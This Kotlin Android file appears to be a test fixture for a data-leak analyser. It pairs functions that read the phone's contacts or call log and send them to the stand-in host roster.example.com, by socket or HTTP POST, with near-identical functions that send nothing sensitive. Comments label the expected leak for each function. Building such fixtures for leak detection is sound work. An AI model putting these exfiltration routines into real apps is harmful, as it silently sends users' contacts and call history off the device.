// Contacts of a phone, on the ways that lead from there.
package roster

import android.content.ContentResolver
import android.database.Cursor
import android.provider.CallLog
import android.provider.ContactsContract.CommonDataKinds.Phone
import java.net.Socket
import kotlinx.coroutines.Dispatchers
import kotlinx.coroutines.flow.Flow
import kotlinx.coroutines.flow.collect
import kotlinx.coroutines.flow.flow
import kotlinx.coroutines.withContext
import okhttp3.MediaType.Companion.toMediaType
import okhttp3.OkHttpClient
import okhttp3.Request
import okhttp3.RequestBody.Companion.toRequestBody
import org.json.JSONArray
import org.json.JSONObject

class Roster(private val resolver: ContentResolver, private val http: OkHttpClient) {
    private fun rows(): Cursor? = resolver.query(Phone.CONTENT_URI, null, null, null, null)

    fun last() {
        val cursor = resolver.query(CallLog.Calls.CONTENT_URI, null, null, null, "date desc") ?: return
        val number = cursor.getString(cursor.getColumnIndexOrThrow(CallLog.Calls.NUMBER))
        val line = number
        Socket("roster.example.com", 8400).getOutputStream().write(line.toByteArray()) // carries: contacts | contacts by local
    }

    fun lastKnown() {
        val cursor = resolver.query(CallLog.Calls.CONTENT_URI, null, null, null, "date desc") ?: return
        val known = cursor.moveToFirst()
        val line = known.toString()
        Socket("roster.example.com", 8400).getOutputStream().write(line.toByteArray()) // carries: nothing | contacts by local
    }

    private fun numbers(): List<String> {
        val out = ArrayList<String>()
        rows()?.use { cursor ->
            while (cursor.moveToNext()) out += cursor.getString(0)
        }
        return out
    }

    private fun letters(): List<String> {
        val out = ArrayList<String>()
        rows()?.use { cursor ->
            while (cursor.moveToNext()) out += "x"
        }
        return out
    }

    fun call() {
        Socket("roster.example.com", 8401).getOutputStream().write(numbers().joinToString().toByteArray()) // carries: contacts | contacts by result
    }

    fun callNobody() {
        Socket("roster.example.com", 8401).getOutputStream().write(letters().joinToString().toByteArray()) // carries: nothing | contacts by result
    }

    fun upload() {
        val people = JSONArray()
        val cursor = rows() ?: return
        while (cursor.moveToNext()) {
            people.put(JSONObject().put("tel", cursor.getString(1)))
        }
        val body = JSONObject().put("people", people).toString().toRequestBody("application/json".toMediaType())
        http.newCall(Request.Builder().url("https://roster.example.com/people").post(body).build()).execute() // carries: contacts | contacts by body
    }

    fun uploadCount() {
        val people = JSONArray()
        val cursor = rows() ?: return
        while (cursor.moveToNext()) {
            people.put(JSONObject().put("tel", cursor.getString(1)))
        }
        val body = JSONObject().put("count", people.length()).toString().toRequestBody("application/json".toMediaType())
        http.newCall(Request.Builder().url("https://roster.example.com/people").post(body).build()).execute() // carries: nothing | contacts by body
    }

    fun favourites() {
        val names = mutableSetOf<String>()
        val cursor = rows() ?: return
        names += cursor.getString(2)
        for (name in names.sorted()) {
            Socket("roster.example.com", 8402).getOutputStream().write(name.toByteArray()) // carries: contacts | contacts by element
        }
    }

    fun favouritesKept() {
        val names = mutableSetOf<String>()
        val cursor = rows() ?: return
        names += cursor.getString(2)
        val groups = setOf("family", "work")
        for (group in groups.sorted()) {
            Socket("roster.example.com", 8402).getOutputStream().write(group.toByteArray()) // carries: nothing | contacts by element
        }
    }

    private fun stream(): Flow<String> = flow {
        val cursor = rows() ?: return@flow
        while (cursor.moveToNext()) emit(cursor.getString(0))
    }

    suspend fun sync() = withContext(Dispatchers.IO) {
        stream().collect { name ->
            Socket("roster.example.com", 8403).getOutputStream().write(name.toByteArray()) // carries: contacts | contacts by async
        }
    }

    suspend fun syncTicks() = withContext(Dispatchers.IO) {
        stream().collect { _ ->
            Socket("roster.example.com", 8403).getOutputStream().write(1) // carries: nothing | contacts by async
        }
    }
}
